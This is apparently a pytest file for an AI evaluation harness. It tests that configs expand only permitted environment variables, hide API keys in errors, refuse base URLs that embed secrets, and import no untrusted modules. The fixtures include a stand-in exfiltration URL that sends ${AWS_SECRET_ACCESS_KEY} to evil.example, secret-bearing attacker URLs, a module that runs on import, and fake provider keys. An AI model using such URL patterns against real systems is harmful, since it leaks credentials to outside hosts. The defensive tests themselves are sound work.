"""A config uses only environment variables that the user allows, and no message shows a key."""

from __future__ import annotations

from pathlib import Path

import builders
import pytest
from command_line import harness
from loopback import completion, serve

from harness import config, pipeline
from harness.errors import ConfigError, hide_keys

KEY = "sk-proj-aBcDeFgH1234567890"


def write_config(folder: Path, model: str, prompt: str = "{{ article.text }}", **settings: str) -> Path:
    row = {"id": "a", "text": "The council met. It voted."}
    return builders.write_config(folder, row, models=f"{{m: {model}}}", prompts=f"{{p: '{prompt}'}}", **settings)


def describe_model(**options: str) -> str:
    given = {"base_url": "http://127.0.0.1:9/v1", **options}
    return "{kind: openai_api, model: m, " + ", ".join(f"{key}: {value}" for key, value in given.items()) + "}"


@pytest.mark.parametrize(
    ("settings", "name"),
    [
        ((describe_model(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"),), "AWS_SECRET_ACCESS_KEY"),
        ((describe_model(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"),), "DATABASE_URL"),
        (("{kind: 'somebody:AsksServer', model: '${GITHUB_TOKEN}'}",), "GITHUB_TOKEN"),
        ((describe_model(), "{{ article.text }} ${MONGODB_URI}"), "MONGODB_URI"),
    ],
)
def test_only_listed_variables_are_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: tuple[str, ...], name: str
) -> None:
    monkeypatch.setenv(name, "the-value")
    monkeypatch.delenv("HARNESS_ALLOW_ENV", raising=False)
    with pytest.raises(ConfigError) as caught:
        config.load(write_config(tmp_path, *settings), imports=False)
    assert f"HARNESS_ALLOW_ENV={name}" in str(caught.value)
    assert "the-value" not in str(caught.value)
    monkeypatch.setenv("HARNESS_ALLOW_ENV", f"OTHER, {name}")
    config.load(write_config(tmp_path, *settings), imports=False)


def test_harness_variables_and_keys_ending_in_env_are_filled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HARNESS_MODEL", "wise")
    monkeypatch.setenv("WHERE", "MISTRAL_API_KEY")
    monkeypatch.setenv("MISTRAL_API_KEY", "a-key")
    monkeypatch.delenv("TOKENS", raising=False)
    model = describe_model(model="'${HARNESS_MODEL}'", api_key_env="'${WHERE}'", max_new_tokens="'${TOKENS:-80}'")
    loaded = config.load(write_config(tmp_path, model.replace("model: m, ", ""))).models["m"].model_dump()
    found = [loaded[key] for key in ("model", "api_key_env", "max_new_tokens")]
    assert found == ["wise", "MISTRAL_API_KEY", 80], "the default of an unset variable needs no permission"


def test_run_is_scored_without_the_variables_of_its_prompts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "x")
    monkeypatch.setenv("HARNESS_ALLOW_ENV", "GITHUB_TOKEN")
    pipeline.run(config.load(write_config(tmp_path, "lead", "{{ article.text }} ${GITHUB_TOKEN}")))
    monkeypatch.delenv("HARNESS_ALLOW_ENV")
    assert pipeline.score(tmp_path / "out").results.manifest.status == "complete"


def test_scoring_with_a_config_needs_no_keys_of_its_models(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    pipeline.run(config.load(write_config(tmp_path, "lead")))
    served = "{kind: openai_api, model: m}"
    assert pipeline.score(tmp_path / "out", write_config(tmp_path, served)).results.manifest.status == "complete"
    with pytest.raises(ConfigError, match="OPENAI_API_KEY"):
        pipeline.score(tmp_path / "out", write_config(tmp_path, served, facts="{model: m}"))


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "SSH_PRIVATE_KEY", "GITHUB_TOKEN", "HOME", "DATABASE_URL"])
def test_api_key_env_accepts_only_server_keys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    for usual in ("MISTRAL_API_KEY", "OTHER_KEY", "HF_TOKEN", "REPLICATE_API_TOKEN", "HARNESS_JUDGE"):
        monkeypatch.setenv(usual, "the-value")
        config.load(write_config(tmp_path, describe_model(api_key_env=usual)))
    monkeypatch.setenv(name, "the-value")
    path = write_config(tmp_path, describe_model(api_key_env=name))
    with pytest.raises(ConfigError, match=f"HARNESS_ALLOW_ENV={name}"):
        config.load(path)
    monkeypatch.setenv("HARNESS_ALLOW_ENV", name)
    config.load(path)


@pytest.mark.parametrize(
    "url",
    [
        "http://me:t0psecret@evil.example/v1", "http://evil.example:t0psecret/v1", "http://evil.example/v1#t0psecret",
        "http://evil.example/sk-t0psecret/v1", "http://evil.example/v1?key=t0psecret", "http://[evil/t0psecret",
        "localhost:8000", "http://h:99999/v1", "http://a.example/ v1", "http://a.example/\tv1",
    ],
)  # fmt: skip  # a list
@pytest.mark.parametrize("place", ["file", "--set"])
def test_address_that_is_invalid_or_has_a_key_is_refused_and_not_repeated(tmp_path: Path, url: str, place: str) -> None:
    path = write_config(tmp_path, describe_model(base_url=f"'{url}'") if place == "file" else describe_model())
    result = harness("validate", path, *(("--set", f"models.m.base_url={url}") if place == "--set" else ()))
    assert result.exit_code == 2
    assert "t0psecret" not in result.output
    assert "base_url" in result.output


@pytest.mark.parametrize(
    "override",
    [
        KEY, f"models.m.max_new_tokens={KEY}", f"models.m.kind={KEY}", f"limit={KEY}", f"models.m.extra.x={KEY}",
        f"{KEY}=1", f"models.n={{kind: openai_api, model: m, api_key: {KEY}}}",
    ],
)  # fmt: skip  # a list
def test_key_on_the_command_line_is_refused_and_not_repeated(tmp_path: Path, override: str) -> None:
    result = harness("validate", write_config(tmp_path, describe_model()), "--set", override)
    assert result.exit_code == 2
    assert KEY not in result.output


@pytest.mark.parametrize(
    "key",
    [
        "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
        "sk-" + "0123456789abcdef" * 2,
        "sk-ant-api03-" + "aB_c-" * 8,
        "sk-or-v1-" + "0123456789abcdef" * 4,
        "sk-aB_cD-eF_gH-iJ_kL3mNo",
        "gsk_" + "aBcDeF12" * 6,
        KEY,
    ],
)
def test_key_of_each_provider_is_hidden(key: str) -> None:
    assert key[:16] not in hide_keys(f"token {key} is wrong")
    assert key[-4:] not in hide_keys(f"token={key}")
    assert key not in str(ConfigError(f"cannot read {key}"))


@pytest.mark.parametrize("name", ["hf_cnn_dailymail.yaml", "sk-learn-summaries-2024", "gsk_news_articles_2024"])
def test_name_that_begins_like_a_key_is_shown_and_accepted(tmp_path: Path, name: str) -> None:
    assert hide_keys(f"{name}: there is no such file") == f"{name}: there is no such file"
    config.load(write_config(tmp_path, describe_model(served_as=name)))


def test_validate_imports_no_foreign_module(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "evil_on_import.py").write_text("import pathlib\npathlib.Path(__file__).with_name('ran').touch()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    scorers = "[length, 'evil_on_import:Scorer']"
    result = harness("validate", write_config(tmp_path, "{kind: 'evil_on_import:Model', any: 1}", scorers=scorers))
    assert result.exit_code == 0
    assert "evil_on_import:Model" in result.stderr
    assert not (tmp_path / "ran").exists()


def test_output_outside_the_working_folder_is_a_warning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    path = write_config(tmp_path, "lead", output="elsewhere")
    assert "warning: output:" in harness("validate", path).stderr
    assert "warning: output:" not in harness("validate", path, "-o", tmp_path / "asked-for").stderr
    assert "warning: output:" not in harness("validate", write_config(tmp_path, "lead", output="here/results")).stderr


def test_run_announces_the_host_and_the_keys_variable_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_KEY", "value")
    with serve(lambda *_: completion("Peace.", model="m")) as server:
        url = server.url.replace("127.0.0.1", "localhost.localdomain")
        model = describe_model(base_url=f"'{url}'", retries="0", api_key_env="MY_KEY")
        result = harness("run", write_config(tmp_path, model), "-q")
    assert result.output.count(f"harness: asking localhost.localdomain ({url}), with the key in MY_KEY\n") == 1
